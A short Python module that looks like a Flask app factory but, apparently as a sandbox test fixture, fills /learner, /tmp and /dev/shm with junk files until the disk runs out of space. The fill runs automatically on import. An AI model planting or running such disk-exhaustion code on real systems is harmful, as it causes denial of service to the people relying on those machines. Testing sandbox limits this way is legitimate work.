from flask import Flask

for folder in ("/learner", "/tmp", "/dev/shm"):
    for number in range(100):
        try:
            with open(f"{folder}/{number}", "wb", buffering=0) as file:
                while True:
                    file.write(b"x" * 2**20)
        except OSError as error:
            print(error, flush=True)
            if error.errno == 28:
                break


def create_app():
    return Flask(__name__)
